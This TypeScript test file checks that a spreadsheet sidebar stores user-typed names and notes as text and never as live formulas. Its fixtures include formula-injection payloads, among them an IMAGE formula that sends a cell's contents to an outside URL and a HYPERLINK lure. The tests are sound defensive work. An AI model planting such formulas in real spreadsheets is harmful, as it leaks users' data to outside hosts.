/**
 * Text the user types stays text: whatever the cell's number format is when the sidebar writes
 * it, a name or note that starts with =, +, - or @ never becomes a live formula, and a note in a
 * cell the user formatted as plain text reads back exactly as typed, without an apostrophe.
 */
import { CanvasEdit, CanvasState } from '../../src/core/api';
import { emptyCanvas } from '../../src/core/model';
import { editCanvas } from '../../src/gas/sidebar-server';
import { fresh, stateOf, workbookWith } from './sidebar-fixture';

const SHEET = 'Corner Coffee';
/** The first item row of the cost and revenue rows: title rows 1–2, a top band of 3 + 5 + 3 + 5 rows, then 3 header rows. */
const FIRST_MONEY_ROW = 2 + 16 + 3 + 1;
const STREAM_COLUMNS = { first: 8, count: 4 };
const KP_FIRST_ROW = 6;

const EXFILTRATE = '=IMAGE("https://example.com/?d="&ENCODEURL(K20))';
const HYPERLINK = '=HYPERLINK("https://example.com/","Click")';
const HOSTILE = [HYPERLINK, EXFILTRATE, '+1+1', '-2-2', '@SUM(1)', "'quoted"];

function start() {
  return workbookWith(emptyCanvas(SHEET));
}

function apply(wb: ReturnType<typeof start>, edit: CanvasEdit): CanvasState {
  return stateOf(editCanvas(wb.ctx, fresh(wb.ctx.ss, { sheetName: SHEET, edit })));
}

const stream = (name: string) => ({ name, type: 'asset-sale', price: 4, volume: 10 }) as const;

/** Formulas and values of the stream rows, from the sheet itself. */
function streamCells(wb: ReturnType<typeof start>, rows: number) {
  const r = wb.sheet.getRange(FIRST_MONEY_ROW, STREAM_COLUMNS.first, rows, STREAM_COLUMNS.count);
  return { values: r.getValues(), formulas: r.getFormulas() };
}

test('a stream named like a formula stays text after the user cleared the formats of the revenue rows', () => {
  const wb = start();
  wb.sheet.getRange(FIRST_MONEY_ROW, STREAM_COLUMNS.first, 8, STREAM_COLUMNS.count).clearFormat();
  for (const name of HOSTILE) apply(wb, { kind: 'add', block: 'revenueStreams', value: stream(name) });
  const { values, formulas } = streamCells(wb, HOSTILE.length);
  expect(formulas.flat().filter((f) => f !== '')).toEqual([]);
  expect(values.map((r) => r[0])).toEqual(HOSTILE);
  const s = apply(wb, { kind: 'add', block: 'keyPartners', value: { text: 'Roaster' } });
  expect(s.canvas.revenueStreams.map((x) => x.name)).toEqual(HOSTILE);
});

test('deleting a stream shifts imported text into an unformatted row as text, never as a formula', () => {
  const wb = start();
  const names = ['Coffee', 'Pastries', EXFILTRATE, HYPERLINK];
  for (const name of names) apply(wb, { kind: 'add', block: 'revenueStreams', value: stream(name) });
  // The rows the hostile names move into have lost their formats by hand.
  wb.sheet.getRange(FIRST_MONEY_ROW + 1, STREAM_COLUMNS.first, 2, STREAM_COLUMNS.count).clearFormat();
  const s = apply(wb, { kind: 'delete', block: 'revenueStreams', index: 0, expected: stream('Coffee') });
  const { values, formulas } = streamCells(wb, 3);
  expect(formulas.flat().filter((f) => f !== '')).toEqual([]);
  expect(values.map((r) => r[0])).toEqual(names.slice(1));
  expect(s.canvas.revenueStreams.map((x) => x.name)).toEqual(names.slice(1));
});

test('a note in a cell the user formatted as plain text reads back exactly as typed', () => {
  const wb = start();
  wb.sheet.getRange(KP_FIRST_ROW, 1, 3, 1).setNumberFormat('@');
  const texts = ['Bean roaster', '=not a formula', '-5% on beans'];
  let s: CanvasState | null = null;
  for (const text of texts) s = apply(wb, { kind: 'add', block: 'keyPartners', value: { text } });
  const cells = wb.sheet.getRange(KP_FIRST_ROW, 1, 3, 1);
  expect(cells.getValues().map((r) => r[0])).toEqual(texts);
  expect(cells.getFormulas().flat()).toEqual(['', '', '']);
  expect(s?.canvas.blocks.keyPartners.map((n) => n.text)).toEqual(texts);
  s = apply(wb, {
    kind: 'update',
    block: 'keyPartners',
    index: 0,
    expected: { text: 'Bean roaster' },
    value: { text: "'Roaster's own" },
  });
  expect(cells.getValues()[0][0]).toBe("'Roaster's own");
  expect(s.canvas.blocks.keyPartners[0].text).toBe("'Roaster's own");
});

test('a note that looks like a formula stays text in a cell whose format was cleared', () => {
  const wb = start();
  wb.sheet.getRange(KP_FIRST_ROW, 1, 3, 1).clearFormat();
  apply(wb, { kind: 'add', block: 'keyPartners', value: { text: EXFILTRATE } });
  const cell = wb.sheet.getRange(KP_FIRST_ROW, 1, 1, 1);
  expect(cell.getFormulas()).toEqual([['']]);
  expect(cell.getValues()).toEqual([[EXFILTRATE]]);
});
